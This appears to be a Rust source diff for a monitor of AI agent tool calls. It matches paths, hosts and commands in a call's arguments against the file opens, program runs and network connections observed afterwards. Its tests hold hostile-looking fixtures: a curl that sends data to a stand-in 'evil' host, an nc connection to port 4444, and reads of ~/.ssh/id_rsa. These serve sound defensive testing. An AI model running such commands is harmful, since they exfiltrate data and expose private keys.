@@ -1,0 +1,529 @@
+//! What a call's arguments mention: the paths, hosts and commands an effect of the call can be held
+//! against. Taken apart once for each call; asked for each effect.
+
+use std::net::IpAddr;
+
+use serde_json::Value;
+
+use super::Object;
+use crate::event::{Exec, Net, Open};
+use crate::session::Call;
+
+/// Most strings of one call's arguments that are looked at.
+const STRINGS: usize = 256;
+/// Longest string that is taken apart into words; a longer one is a document, not a command.
+const WORDS_WITHIN: usize = 64 * 1024;
+/// Most words of one string.
+const WORDS: usize = 512;
+/// Deepest nesting that is looked at.
+const DEPTH: usize = 32;
+/// Shortest word within a text that can name a file by itself.
+const SHORTEST_WORD: usize = 3;
+
+/// The words of one call's arguments.
+#[derive(Clone, Debug, Default)]
+pub struct Mentions {
+    paths: Vec<Mention>,
+    hosts: Vec<Host>,
+    /// Whole strings: what was given as a command or script.
+    texts: Vec<String>,
+    /// Words that stand where a command stands.
+    commands: Vec<String>,
+}
+
+/// A word that may name a file.
+#[derive(Clone, Debug)]
+struct Mention {
+    /// As it was given.
+    text: String,
+    /// Without `file://`, `~/`, `.` and `..`: what the end of the resolved path must be.
+    end: String,
+    /// It began with `/`, and nothing of it was taken away.
+    absolute: bool,
+}
+
+/// A host that stands in an argument.
+#[derive(Clone, Debug)]
+struct Host {
+    text: String,
+    /// Lower case; an address in its usual form.
+    name: String,
+    address: Option<IpAddr>,
+    /// The port given, or the scheme's own.
+    port: Option<u16>,
+}
+
+impl Mentions {
+    /// Takes the arguments of a call apart.
+    #[must_use]
+    pub fn of_call(call: &Call) -> Self {
+        let mut mentions = Self::default();
+        let mut strings = Vec::new();
+        match (&call.arguments, &call.clipped) {
+            (Some(arguments), _) => collect(arguments, 0, &mut strings),
+            (None, Some(text)) => strings.push(text.as_str()),
+            (None, None) => {}
+        }
+        for text in strings {
+            mentions.add(text);
+        }
+        mentions
+    }
+
+    /// The argument text that names the object, if one does.
+    #[must_use]
+    pub fn of(&self, object: Object<'_>) -> Option<&str> {
+        match object {
+            Object::File(open) => self.of_file(open),
+            Object::Program(exec) => self.of_program(exec),
+            Object::Endpoint(net, names) => self.of_endpoint(net, names),
+        }
+    }
+
+    fn add(&mut self, text: &str) {
+        self.texts.push(text.to_owned());
+        self.add_path(text, true);
+        self.add_host(text);
+        if text.len() > WORDS_WITHIN {
+            return;
+        }
+        let mut at_command = true;
+        for word in words(text).take(WORDS) {
+            match word {
+                Word::Separator => at_command = true,
+                Word::Text(word) => {
+                    if at_command {
+                        self.commands.push(word.to_owned());
+                    }
+                    // `sudo`, `env` and the like run what follows.
+                    at_command =
+                        at_command && matches!(word, "sudo" | "env" | "exec" | "nohup" | "time");
+                    if word != text {
+                        self.add_path(word, false);
+                        self.add_host(word);
+                    }
+                    if let Some((_, value)) = word.split_once('=') {
+                        self.add_path(value, false);
+                        self.add_host(value);
+                    }
+                }
+            }
+        }
+    }
+
+    fn add_path(&mut self, text: &str, whole: bool) {
+        let text = text.trim();
+        if text.is_empty() || text.len() > 4096 || text.contains('\n') {
+            return;
+        }
+        // A word in prose names a file only when it looks like one.
+        if !whole && (text.len() < SHORTEST_WORD || !text.contains(['/', '.'])) {
+            return;
+        }
+        let plain = text.strip_prefix("file://").unwrap_or(text);
+        let mut parts: Vec<&str> = Vec::new();
+        let mut climbed = false;
+        for part in plain.split('/') {
+            match part {
+                "" | "." => {}
+                "~" if parts.is_empty() => climbed = true,
+                ".." => {
+                    // Where this leads depends on where it starts: only what follows can be compared.
+                    climbed |= parts.pop().is_none();
+                }
+                name => parts.push(name),
+            }
+        }
+        if parts.is_empty() {
+            return;
+        }
+        self.paths.push(Mention {
+            text: text.to_owned(),
+            end: format!("/{}", parts.join("/")),
+            absolute: plain.starts_with('/') && !climbed,
+        });
+    }
+
+    fn add_host(&mut self, text: &str) {
+        let text = text.trim();
+        if text.len() > 4096 {
+            return;
+        }
+        if text.contains("://") {
+            if let Ok(url) = url::Url::parse(text)
+                && let Some(host) = url.host_str()
+            {
+                let name = host.trim_matches(['[', ']']).to_ascii_lowercase();
+                self.hosts.push(Host {
+                    text: text.to_owned(),
+                    address: name.parse().ok().map(canonical),
+                    name,
+                    port: url.port_or_known_default(),
+                });
+            }
+            return;
+        }
+        // `address`, `address:port`, `[address]:port`, `name:port`, `name.domain`.
+        if let Ok(socket) = text.parse::<std::net::SocketAddr>() {
+            let address = canonical(socket.ip());
+            let (name, port) = (address.to_string(), Some(socket.port()));
+            self.hosts.push(Host { text: text.to_owned(), name, address: Some(address), port });
+        } else if let Ok(address) = text.trim_matches(['[', ']']).parse::<IpAddr>() {
+            let address = canonical(address);
+            let name = address.to_string();
+            self.hosts.push(Host {
+                text: text.to_owned(),
+                name,
+                address: Some(address),
+                port: None,
+            });
+        } else if let Some((name, port)) = host_and_port(text) {
+            self.hosts.push(Host { text: text.to_owned(), name, address: None, port });
+        }
+    }
+
+    fn of_file(&self, open: &Open) -> Option<&str> {
+        self.paths
+            .iter()
+            .find(|mention| {
+                let names = |path: &str| {
+                    if mention.absolute {
+                        path == mention.end || is_below(path, &mention.end)
+                    } else {
+                        ends_with(path, &mention.end) || is_inside(path, &mention.end)
+                    }
+                };
+                names(&open.path) || mention.text == open.argument || names(&open.argument)
+            })
+            .map(|mention| mention.text.as_str())
+    }
+
+    fn of_program(&self, exec: &Exec) -> Option<&str> {
+        // `sh -c COMMAND`: the command was asked for, not the shell.
+        if let [_, flag, command, ..] = exec.argv.as_slice()
+            && matches!(flag.as_str(), "-c" | "-e" | "-lc" | "-ic" | "/c" | "-Command")
+        {
+            let command = command.trim();
+            return self
+                .texts
+                .iter()
+                .find(|text| {
+                    let text = text.trim();
+                    text == command
+                        || (command.len() >= SHORTEST_WORD && text.contains(command))
+                        || (text.contains(char::is_whitespace)
+                            && command.contains(text)
+                            && text.len() * 2 >= command.len())
+                })
+                .map(String::as_str);
+        }
+        let base = |path: &str| path.rsplit('/').next().unwrap_or(path).to_owned();
+        let first = exec.argv.first().map(|word| base(word));
+        let program = base(&exec.path);
+        self.commands
+            .iter()
+            .find(|word| {
+                let word = base(word);
+                word == program || Some(&word) == first.as_ref()
+            })
+            .map(String::as_str)
+            .or_else(|| {
+                self.paths
+                    .iter()
+                    .find(|mention| mention.absolute && mention.end == exec.path)
+                    .map(|mention| mention.text.as_str())
+            })
+    }
+
+    fn of_endpoint(&self, net: &Net, names: &[String]) -> Option<&str> {
+        if let Some(path) = &net.unix_path {
+            return self
+                .paths
+                .iter()
+                .find(|mention| !path.is_empty() && (mention.text == *path || mention.end == *path))
+                .map(|mention| mention.text.as_str());
+        }
+        let endpoint = net.endpoint?;
+        self.hosts
+            .iter()
+            .find(|host| {
+                if host.port.is_some_and(|port| port != endpoint.port() && endpoint.port() != 0) {
+                    return false;
+                }
+                match host.address {
+                    Some(address) => address == endpoint.ip(),
+                    None if names.is_empty() => {
+                        // Nothing tells what the name resolved to: a call that names a host with this
+                        // port is taken at its word, but never for the loopback or a link.
+                        host.port.is_some() && !is_local(endpoint.ip())
+                    }
+                    None => names.iter().any(|name| name.eq_ignore_ascii_case(&host.name)),
+                }
+            })
+            .map(|host| host.text.as_str())
+    }
+}
+
+/// Every string of a value, keys left out.
+fn collect<'a>(value: &'a Value, depth: usize, out: &mut Vec<&'a str>) {
+    if depth > DEPTH || out.len() >= STRINGS {
+        return;
+    }
+    match value {
+        Value::String(text) => out.push(text),
+        Value::Array(items) => items.iter().for_each(|item| collect(item, depth + 1, out)),
+        Value::Object(fields) => fields.values().for_each(|item| collect(item, depth + 1, out)),
+        _ => {}
+    }
+}
+
+enum Word<'a> {
+    Text(&'a str),
+    /// What ends a command in a shell.
+    Separator,
+}
+
+/// The words of a text, as a shell would roughly see them: quotes and brackets separate, too.
+fn words(text: &str) -> impl Iterator<Item = Word<'_>> {
+    let is_command_end = |c: char| matches!(c, ';' | '|' | '&' | '\n' | '(' | '`');
+    let is_boundary =
+        move |c: char| c.is_whitespace() || is_command_end(c) || "\"'()<>,{}$".contains(c);
+    let mut rest = text;
+    std::iter::from_fn(move || {
+        while let Some(first) = rest.chars().next() {
+            if is_command_end(first) {
+                rest = rest.get(first.len_utf8()..).unwrap_or_default();
+                return Some(Word::Separator);
+            }
+            if is_boundary(first) {
+                rest = rest.get(first.len_utf8()..).unwrap_or_default();
+                continue;
+            }
+            let end = rest.find(is_boundary).unwrap_or(rest.len());
+            let (word, after) = rest.split_at_checked(end)?;
+            rest = after;
+            return Some(Word::Text(word.trim_end_matches(['.', ':', '?', '!'])));
+        }
+        None
+    })
+}
+
+/// `path` is `directory` or lies below it; a directory of one component (`/`, `/home`) covers too much to
+/// say that its contents were asked for.
+fn is_below(path: &str, directory: &str) -> bool {
+    let broad = directory.matches('/').count() < 2;
+    !broad
+        && !is_home(directory)
+        && path.strip_prefix(directory).is_some_and(|rest| rest.starts_with('/'))
+}
+
+/// A home itself: asking for it is not asking for every file in it.
+fn is_home(directory: &str) -> bool {
+    directory == "/root"
+        || ["/home/", "/Users/"].iter().any(|homes| {
+            directory
+                .strip_prefix(homes)
+                .is_some_and(|name| !name.is_empty() && !name.contains('/'))
+        })
+}
+
+/// The last components of `path` are those of `end` (which begins with `/`).
+fn ends_with(path: &str, end: &str) -> bool {
+    path.ends_with(end) || path == end.trim_start_matches('/')
+}
+
+/// A relative directory of at least two components was given, and `path` lies in it.
+fn is_inside(path: &str, end: &str) -> bool {
+    end.matches('/').count() >= 2
+        && path
+            .match_indices(end)
+            .any(|(at, _)| path.get(at + end.len()..).is_some_and(|rest| rest.starts_with('/')))
+}
+
+fn canonical(address: IpAddr) -> IpAddr {
+    address.to_canonical()
+}
+
+fn is_local(address: IpAddr) -> bool {
+    match address {
+        IpAddr::V4(v4) => v4.is_loopback() || v4.is_link_local(),
+        IpAddr::V6(v6) => v6.is_loopback() || v6.is_unicast_link_local(),
+    }
+}
+
+/// `name.domain` or `name:port`.
+fn host_and_port(text: &str) -> Option<(String, Option<u16>)> {
+    let (name, port) = match text.rsplit_once(':') {
+        Some((name, port)) => (name, Some(port.parse::<u16>().ok()?)),
+        None => (text, None),
+    };
+    let valid = !name.is_empty()
+        && name.len() <= 253
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
+        && (name.contains('.') || port.is_some())
+        && name.chars().any(|c| c.is_ascii_alphabetic());
+    valid.then(|| (name.to_ascii_lowercase(), port))
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+    use crate::event::{Direction, NetOperation, ProcessKey};
+
+    fn mentions(arguments: Value) -> Mentions {
+        Mentions::of_call(&Call {
+            number: 1,
+            id: json!(1),
+            method: "tools/call".into(),
+            tool: None,
+            arguments: Some(arguments),
+            clipped: None,
+            direction: Direction::ClientToServer,
+            session: None,
+            started: 0,
+            request_bytes: 0,
+        })
+    }
+
+    fn file(path: &str, argument: &str) -> Open {
+        Open {
+            flags: 0,
+            mode: 0,
+            inode: 0,
+            device: 0,
+            result: Ok(3),
+            path: path.into(),
+            argument: argument.into(),
+        }
+    }
+
+    #[test]
+    fn paths() {
+        let key = "/home/me/.ssh/id_rsa";
+        for (arguments, path, argument, expected) in [
+            (json!({"path": key}), key, key, true),
+            (json!({"path": "~/.ssh/id_rsa"}), key, key, true),
+            (json!({"path": "file:///home/me/.ssh/id_rsa"}), key, key, true),
+            (json!({"path": "../../home/me/.ssh/id_rsa"}), key, key, true),
+            (json!({"path": "a/../../me/.ssh/id_rsa"}), key, key, true),
+            (json!({"cmd": "cat ~/.ssh/id_rsa | wc"}), key, key, true),
+            (json!({"cmd": "F=~/.ssh/id_rsa; cat $F"}), key, key, true),
+            (json!({"deep": {"list": ["x", {"y": key}]}}), key, key, true),
+            // A symbolic link: what was opened was asked for, whatever it led to.
+            (json!({"path": "/srv/notes.txt"}), key, "/srv/notes.txt", true),
+            (json!({"path": "notes.txt"}), key, "/srv/notes.txt", true),
+            (json!({"path": "notes.txt"}), key, "notes.txt", true),
+            // Below a directory that was asked for, unless that says too much.
+            (json!({"path": "/srv/data"}), "/srv/data/a/b.txt", "/srv/data/a/b.txt", true),
+            (json!({"path": "/home/me"}), key, key, false),
+            (json!({"path": "/home"}), key, key, false),
+            (json!({"path": "/"}), key, key, false),
+            (json!({"path": "/srv/dat"}), "/srv/data/b.txt", "/srv/data/b.txt", false),
+            // Not asked for.
+            (json!({"city": "Bern"}), key, key, false),
+            (json!({"text": "my id_rsa is secret"}), key, key, false),
+            (json!({"path": "/home/me/.ssh/id_rsa.pub"}), key, key, false),
+            (json!({"path": "rsa"}), key, key, false),
+            (json!({}), key, key, false),
+        ] {
+            let found = mentions(arguments.clone());
+            let open = file(path, argument);
+            assert_eq!(
+                found.of(Object::File(&open)).is_some(),
+                expected,
+                "{arguments} {path} {argument}"
+            );
+        }
+    }
+
+    fn program(path: &str, argv: &[&str]) -> Exec {
+        Exec {
+            parent: ProcessKey { pid: 1, start: 1 },
+            uid: 0,
+            gid: 0,
+            parent_instance: 0,
+            candidate: false,
+            watch_full: false,
+            stdin_inode: None,
+            stdout_inode: None,
+            cgroup: 0,
+            path: path.into(),
+            cwd: "/".into(),
+            argv: argv.iter().map(ToString::to_string).collect(),
+        }
+    }
+
+    #[test]
+    fn programs() {
+        let shell = |command| program("/usr/bin/dash", &["sh", "-c", command]);
+        for (arguments, exec, expected) in [
+            (json!({"command": "id; uname -a"}), shell("id; uname -a"), true),
+            (json!({"command": "id; uname -a"}), program("/usr/bin/id", &["id"]), true),
+            (json!({"command": "id; uname -a"}), program("/usr/bin/uname", &["uname", "-a"]), true),
+            (json!({"command": "ls -l /srv/data"}), shell("cd /work && ls -l /srv/data"), true),
+            (json!({"args": ["git", "log"]}), program("/usr/bin/git", &["git", "log"]), true),
+            (json!({"city": "Paris"}), shell("curl http://evil/?Paris"), false),
+            (json!({"city": "Paris"}), program("/usr/bin/id", &["id"]), false),
+            (json!({"text": "what is my id"}), program("/usr/bin/id", &["id"]), false),
+            (json!({"text": "use sh for this"}), shell("id"), false),
+        ] {
+            let found = mentions(arguments.clone());
+            assert_eq!(
+                found.of(Object::Program(&exec)).is_some(),
+                expected,
+                "{arguments} {:?}",
+                exec.argv
+            );
+        }
+    }
+
+    #[test]
+    fn hosts() {
+        for (arguments, endpoint, names, expected) in [
+            (json!({"url": "http://203.0.113.7:8000/x"}), "203.0.113.7:8000", &[][..], true),
+            (json!({"url": "http://203.0.113.7:8000/x"}), "203.0.113.7:22", &[], false),
+            (json!({"host": "203.0.113.7"}), "203.0.113.7:22", &[], true),
+            (json!({"url": "http://[2001:db8::7]:80/"}), "[2001:db8::7]:80", &[], true),
+            (json!({"cmd": "nc 203.0.113.7 4444"}), "203.0.113.7:4444", &[], true),
+            (json!({"url": "https://example.com/a"}), "93.184.216.34:443", &["example.com"], true),
+            (json!({"url": "https://example.com/a"}), "93.184.216.34:443", &["evil.test"], false),
+            (json!({"url": "https://example.com/a"}), "93.184.216.34:443", &[], true),
+            (json!({"url": "https://example.com/a"}), "93.184.216.34:4444", &[], false),
+            (json!({"url": "http://example.com/a"}), "169.254.169.254:80", &[], false),
+            (json!({"city": "Bern"}), "203.0.113.7:80", &[], false),
+        ] {
+            let names: Vec<String> = names.iter().map(ToString::to_string).collect();
+            let net = Net {
+                operation: NetOperation::Connect,
+                family: 2,
+                socket_type: 1,
+                protocol: 6,
+                endpoint: Some(endpoint.parse().unwrap()),
+                unix_path: None,
+                result: None,
+            };
+            let found = mentions(arguments.clone());
+            let expected_text = format!("{arguments} {endpoint} {names:?}");
+            assert_eq!(
+                found.of(Object::Endpoint(&net, &names)).is_some(),
+                expected,
+                "{expected_text}"
+            );
+        }
+    }
+
+    #[test]
+    fn hostile_arguments_stay_bounded() {
+        let many: Vec<String> = (0..10_000).map(|number| format!("/p/{number}")).collect();
+        assert!(mentions(json!(many)).texts.len() <= STRINGS);
+        let mut deep = json!("x");
+        for _ in 0..100 {
+            deep = json!([deep]);
+        }
+        assert!(mentions(deep).texts.is_empty());
+        let long = "a/b ".repeat(1 << 20);
+        assert!(mentions(json!(long)).paths.len() <= WORDS + 1);
+    }
+}
